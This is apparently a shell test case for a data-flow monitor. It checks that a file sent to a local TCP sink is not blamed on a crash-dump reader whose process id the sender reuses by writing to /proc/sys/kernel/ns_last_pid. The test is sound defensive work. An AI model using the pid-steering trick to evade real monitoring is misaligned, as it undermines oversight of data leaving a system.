#!/bin/bash
# C-pid-reuse: a crash handler's process has read a core and is gone; an uploader gets its process id.
# flow: one pid, two lives; the second reads and sends an export.
# tools: python3
# expect: silent
. "$CORPUS/lib.sh"
mkdump
sink tcp
seq 60000 >export
cat >two.py <<'END'
import os, socket, sys
dump, host, port = sys.argv[1:]
first = os.fork()
if first == 0:
    part = open(dump, "rb").read()
    os._exit(part[:4] != b"\x7fELF")
assert os.waitpid(first, 0)[1] == 0
for _ in range(200):
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(first - 1))
    second = os.fork()
    if second == 0:
        if os.getpid() != first:
            os._exit(3)
        sink = socket.create_connection((host, int(port)))
        sink.sendall(open("export", "rb").read())
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(second, 0)[1])
    if code != 3:
        sys.exit(code)
sys.exit(77)
END
python3 two.py "$D" "$SINK" "$PORT"
case $? in 0) ;; 77) skip "no number twice" ;; *) skip "pids cannot be chosen here" ;; esac
sunk 300000
